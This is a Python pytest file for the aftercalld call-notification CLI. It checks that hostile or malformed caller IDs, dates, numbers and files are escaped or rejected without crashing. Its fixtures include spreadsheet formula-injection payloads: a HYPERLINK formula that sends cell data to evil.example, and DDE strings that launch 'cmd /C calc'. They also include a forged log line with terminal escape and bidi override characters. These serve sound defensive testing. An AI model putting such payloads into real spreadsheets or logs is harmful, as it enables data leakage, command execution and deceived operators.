"""Hostile and broken input at the CLI's edges (issue 13): what a stranger puts in a caller
id must not forge a terminal line, run as a spreadsheet formula or crash a command."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from core_helpers import NOW, call, write_config

from aftercalld import cli
from aftercalld.config import load
from aftercalld.configreader import ConfigError
from aftercalld.pipeline import CallHandler
from aftercalld.store import Outbox

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
            "+cmd|' /C calc'!A0"]
FORGED = "07400123456\n2026-11-30 12:00:00,000 INFO aftercalld.dispatcher: message 99 delivered\x1b[2J\u202e"


def fixed_clock():
    return NOW.timestamp()


@pytest.fixture
def hostile_outbox(tmp_path):
    path = write_config(tmp_path)
    config = load(path)
    outbox = Outbox.open(config.outbox_path)
    handler = CallHandler(config, outbox, clock=fixed_clock)
    for i, raw in enumerate([*FORMULAS, FORGED]):
        handler.handle(call(call_id=f"hostile.{i}", caller_number=raw, start_time=NOW - timedelta(hours=2)))
    handler.handle(call(call_id="plain.1", caller_number="+447400123456", start_time=NOW - timedelta(hours=2)))
    outbox.close()
    return path


def run_cli(capsys, *argv):
    code = cli.main([str(a) for a in argv], clock=fixed_clock)
    out, err = capsys.readouterr()
    return code, out, err


def test_report_csv_cells_never_start_a_formula(hostile_outbox, capsys):
    code, out, _ = run_cli(capsys, "report", "-c", hostile_outbox, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    destinations = {r["call_key"]: r["destination"] for r in rows}
    for i, raw in enumerate(FORMULAS):
        assert destinations[f"main/hostile.{i}"] == "'" + raw
    assert destinations["main/plain.1"] == "+447400123456"  # an E.164 number stays a number
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "@", "-", "\t", "\r")), value


def test_report_table_and_why_print_one_line_per_item_without_terminal_escapes(hostile_outbox, capsys):
    code, out, _ = run_cli(capsys, "report", "-c", hostile_outbox)
    assert code == 0
    assert "\x1b" not in out and "\u202e" not in out
    assert "\\x1b[2J" in out and "\\u202e" in out
    forged_lines = [line for line in out.splitlines() if "message 99 delivered" in line]
    assert len(forged_lines) == 1 and forged_lines[0].startswith(str(len(FORMULAS) + 1))  # its own row

    code, out, _ = run_cli(capsys, "why", "-c", hostile_outbox, "main/hostile.4")
    assert code == 0
    assert "\x1b" not in out and "\u202e" not in out
    assert not any(line.startswith("2026-11-30") for line in out.splitlines())
    assert "07400123456\\n2026-11-30" in out


@pytest.mark.parametrize("since,until,calls", [
    ("today", None, 6), ("yesterday", "today", 0), ("Yesterday", None, 6), ("2026-11-30", "2026-12-01", 6),
])
def test_report_accepts_today_and_yesterday_from_the_injected_clock(hostile_outbox, capsys, since, until, calls):
    argv = ["report", "-c", hostile_outbox, "--format", "json", "--since", since]
    code, out, _ = run_cli(capsys, *argv, *(["--until", until] if until else []))
    assert code == 0
    assert len(json.loads(out)["messages"]) == calls


@pytest.mark.parametrize("option,value", [
    ("--since", "last week"), ("--until", "2026-13-45"), ("--since", "2026-02-30"),
    ("--since", "2026-11-30\x1b[2J"),
])
def test_report_with_a_bad_date_says_so_and_exits_2(hostile_outbox, capsys, option, value):
    code, out, err = run_cli(capsys, "report", "-c", hostile_outbox, option, value)
    assert code == 2
    assert f"aftercalld: {option} " in err and "not a date/time" in err
    assert "Traceback" not in err and "\x1b" not in err
    assert out == ""


@pytest.mark.parametrize("field,value,reason", [
    ("ring_seconds", float("nan"), "ring_seconds: nan is not between"),
    ("talk_seconds", "1e309", "talk_seconds: inf is not between"),
    ("talk_seconds", -5, "talk_seconds: -5.0 is not between"),
    ("start_time", "0001-01-01T00:00:00+00:00", "start_time: year 1 is outside"),
    ("end_time", "9999-12-31T23:59:59+00:00", "end_time: year 9999 is outside"),
])
def test_test_rule_on_a_record_with_impossible_numbers_or_years_exits_2(tmp_path, capsys, field, value, reason):
    path = write_config(tmp_path)
    record = json.loads(call().to_json())
    record[field] = value
    text = json.dumps(record).replace('"1e309"', "1e309")  # a JSON number that overflows to inf
    (tmp_path / "call.json").write_text(text)
    code, out, err = run_cli(capsys, "test-rule", "-c", path, "--call", tmp_path / "call.json")
    assert code == 2
    assert reason in err and "Traceback" not in err


def test_test_rule_and_replay_with_a_lone_surrogate_render_and_print(tmp_path, capsys):
    path = write_config(tmp_path, rules='''
[[rules]]
name = "Missed"
recipients = ["caller"]
when = { status = "missed" }
caller = { text = "Hi {caller_name}, sorry we missed you", sender = "Acme" }
''')
    record = json.loads(call().to_json())
    line = json.dumps(record | {"caller_name": "Zo\ud800e"})  # JSON text "\ud800": a lone surrogate
    assert "\\ud800" in line
    (tmp_path / "call.json").write_text(line)
    code, out, err = run_cli(capsys, "test-rule", "-c", path, "--call", tmp_path / "call.json")
    assert (code, err) == (0, "")
    assert "| Hi Zo\ufffde, sorry we missed you" in out

    (tmp_path / "calls.jsonl").write_text(line + "\n")
    code, out, err = run_cli(capsys, "replay", "-c", path, "--format", "jsonl", tmp_path / "calls.jsonl")
    assert code == 0
    [result] = [json.loads(x) for x in out.splitlines()]
    assert result["call"]["caller_name"] == "Zo\ufffde"
    assert result["messages"][0]["text"] == "Hi Zo\ufffde, sorry we missed you"


# -- bounded memory for caller ids (issue 13, item 11) --------------------------------------------


def test_the_phone_check_cache_is_bounded_by_configuration_and_skips_giant_ids(tmp_path):
    from aftercalld.phone import DEFAULT_CACHE_SIZE, PhoneRules

    config = load(write_config(tmp_path))
    assert config.phone.cache_size == DEFAULT_CACHE_SIZE == 4096
    rules = PhoneRules("GB", cache_size=100)
    for i in range(1000):
        rules.check(f"+4474001{i:05d}")
    assert rules.cache_entries() == 100
    giant = PhoneRules("GB")
    for i in range(1000):
        check = giant.check(f"{i:04d}" + "7" * 100_000)
        assert check.e164 is None and len(check.reason) < 100
        assert check.reason.endswith("(100004 characters)")
    assert giant.cache_entries() == 0  # nothing of them is kept


def test_phone_cache_size_is_validated(tmp_path):
    path = write_config(tmp_path)
    text = path.read_text().replace('default_region = "GB"\n', 'default_region = "GB"\nphone_cache_size = -1\n')
    path.write_text(text)
    with pytest.raises(ConfigError, match="general.phone_cache_size: must be at least 0"):
        load(path)


def test_a_giant_caller_id_is_bounded_where_the_call_record_is_built(tmp_path):
    config = load(write_config(tmp_path))
    outbox = Outbox.open(config.outbox_path)
    try:
        record = call(call_id="giant", caller_number="0" + "7" * 100_000, caller_name="Zo\ud800" * 50_000,
                      variables={"X": "v" * 100_000})
        assert max(len(record.caller_number), len(record.caller_name), len(record.variables["X"])) <= 256
        assert "\ud800" not in record.caller_name
        decision = CallHandler(config, outbox, clock=fixed_clock).handle(record)
        [message] = decision.messages
        assert message.suppressed.startswith("invalid number") or len(message.suppressed) < 100
        [row] = outbox.calls(call_key="main/giant")
        assert len(row["record"]) < 2000
        assert all(len(m["key"]) < 400 for m in outbox.messages())
    finally:
        outbox.close()


def test_a_receipt_in_a_64_kb_message_payload_is_kept_only_in_part():
    from aftercalld.smpp import pdu
    from aftercalld.smpp.receipts import parse_receipt

    payload = b"id:" + b"7" * 30_000 + b" stat:DELIVRD err:000 text:" + b"x" * 30_000
    message = pdu.ShortMessage(command_id=pdu.DELIVER_SM, service_type="", source_ton=1, source_npi=1,
                               source="447400123456", dest_ton=5, dest_npi=0, destination="ACME",
                               esm_class=pdu.ESM_DELIVERY_RECEIPT, data_coding=0, short_message=b"",
                               tlvs={pdu.TAG_MESSAGE_PAYLOAD: payload})
    receipt = parse_receipt(message)
    assert receipt.state.value == "delivered"
    assert receipt.message_id == "7" * 128 and len(receipt.raw) == 1000


def test_replay_skips_impossible_records_with_a_warning_and_refuses_unreadable_files(tmp_path, capsys):
    path = write_config(tmp_path)
    good = json.loads(call(call_id="good").to_json())
    lines = [json.dumps(good | {"call_id": "nan", "ring_seconds": float("nan")}),
             json.dumps(good | {"call_id": "inf"}).replace('"talk_seconds": 0.0', '"talk_seconds": 1e309'),
             json.dumps(good | {"call_id": "year1", "start_time": "0001-01-01T00:00:00+00:00"}),
             json.dumps(good)]
    (tmp_path / "calls.jsonl").write_text("\n".join(lines) + "\n")
    code, out, err = run_cli(capsys, "replay", "-c", path, "--format", "jsonl", tmp_path / "calls.jsonl")
    assert code == 0 and "Traceback" not in err
    assert [json.loads(x)["call"]["call_id"] for x in out.splitlines()] == ["good"]
    assert "calls.jsonl:1: skipped: ring_seconds: nan" in err
    assert "calls.jsonl:2: skipped: talk_seconds: inf" in err
    assert "calls.jsonl:3: skipped: start_time: year 1" in err

    (tmp_path / "latin1.jsonl").write_bytes(b'{"caller_name": "Zo\xeb"}\n')
    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
    for name in ("latin1.jsonl", "deep.json"):
        code, out, err = run_cli(capsys, "replay", "-c", path, tmp_path / name)
        assert code == 2 and "Traceback" not in err and err.startswith("aftercalld: "), err
